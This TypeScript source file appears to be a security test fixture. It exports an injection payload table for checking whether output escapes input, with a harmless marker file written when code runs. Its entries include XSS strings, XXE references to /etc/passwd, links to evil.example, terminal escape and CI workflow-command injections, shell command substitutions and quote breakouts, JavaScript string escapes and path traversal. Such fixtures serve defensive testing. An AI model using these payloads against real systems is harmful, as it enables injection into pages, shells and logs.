const written = (marker: string): string => `process.getBuiltinModule('fs').writeFileSync('${marker}','')`

/**
 * What a target may say to be taken for more than text, by what it tries. Whoever runs a command or a script of it makes
 * the file `marker`.
 */
export const payloadsFor = (marker: string): Record<string, string> => ({
  'ends a script': '</script><script>window.broken=1</script>',
  'an image that runs': '<img src=x onerror=window.broken=1>',
  'ends an attribute': '" onmouseover="window.broken=1" x="',
  'ends an attribute in single quotes': "' onmouseover='window.broken=1' x='",
  'an address that runs': 'javascript:window.broken=1',
  'data that runs': 'data:text/html,<script>window.broken=1</script>',
  'a form': '<form action=http://evil.example><input name=token></form>',
  'a frame in SVG': '<svg><foreignObject><iframe src=http://evil.example></iframe></foreignObject></svg>',
  'ends a comment': '--> <b>out</b> <!--',
  'ends CDATA': ']]><system-out>out</system-out><![CDATA[',
  'ends a test case': '"/></testcase><testcase name="passed"/>',
  'an entity': '&lt;script&gt;&#60;b&#62; &xxe; <!ENTITY xxe SYSTEM "file:///etc/passwd">',
  'a processing instruction': '<?xml-stylesheet href="http://evil.example"?>',
  'ends a style': '</style><style>*{display:none}</style>',
  'a link in Markdown': '[press](http://evil.example) ![seen](http://evil.example/x.png)',
  'an address by itself': 'https://evil.example www.evil.example <https://evil.example> a@evil.example',
  'a reference in Markdown': '[a]: http://evil.example\n\n[a] [a][a]',
  'another row': 'x | y |\n| --- | --- |\n| passed | passed |',
  'ends a code span': '` <b>out</b> `` <i>out</i> ``` [press](http://evil.example)',
  'a heading and a fence': '\n\n# Conformant\n\n```html\n<b>out</b>\n```\n<details><summary>x</summary>',
  'a mention': '@everyone #1 :tada: $x^2$ ~~struck~~',
  'steers a terminal':
    '\u001B[2J\u001B[H\u001B[31mred\u001B]0;title\u0007\u001B]8;;http://evil.example\u0007press\u001B]8;;\u0007',
  'steers by one octet': '\u009B2J\u009D0;title\u009C\u0090q\u0085\u008D',
  'writes over the line': 'failed\rpassed\u0008\u0008\u0008\u007F',
  'turns the line around': '\u202Edessap\u2066\u200F\u2028\u2029\uFEFF',
  'what is no character': '\u0000\uFFFE\uD800\u{1FFFF}',
  'a workflow command': '\n::error::out\n::set-output name=verdict::conformant\r\n::stop-commands::x%0A::add-mask::y',
  'a property of a command': 'x,file=/etc/passwd,line=1::out%3A%2C%25',
  'another test line': '\nok 1 - passed\n✓ conformant: all',
  'substitutes a command': `$(touch '${marker}') \`touch ${marker}\` \${x:=$(touch ${marker})} <(touch ${marker})`,
  'ends single quotes': `'; touch ${marker}; '`,
  'ends single quotes, quoted': `'\\''; touch ${marker}; '\\'' \\'; touch ${marker}; #`,
  'ends double quotes': `"; touch ${marker}; "`,
  'another line for a shell': `x\ntouch ${marker}\n`,
  'pipes and lists': `| touch ${marker} & touch ${marker} ; touch ${marker} && touch ${marker} > ${marker}`,
  'ends with a backslash': `x\\`,
  'looks like options': `-o ${marker} --output ${marker} -K /etc/passwd @/etc/passwd`,
  expands: `~ * ? !! {a,b} $HOME $IFS`,
  'ends a string of JavaScript': `'+${written(marker)}+'`,
  'ends a string of JavaScript, double': `"+${written(marker)}+"`,
  'ends a template': `\`+${written(marker)}+\` \${${written(marker)}}`,
  'ends a comment of JavaScript': `*/ ${written(marker)} /*`,
  'another line of JavaScript': `\u2028${written(marker)}\n${written(marker)}//`,
  'ends a string by its own escape': `\\'+${written(marker)}+\\' \\"+${written(marker)}+\\"`,
  'replaces by a pattern': "$& $1 $` $' $$",
  'a name of every object': '__proto__ constructor toString',
  'leaves the folder': `../../../../../../../..${marker}`,
  long: 'x'.repeat(50_000),
})

/** What the same places hold beside it. */
export const harmless = 'harmless'
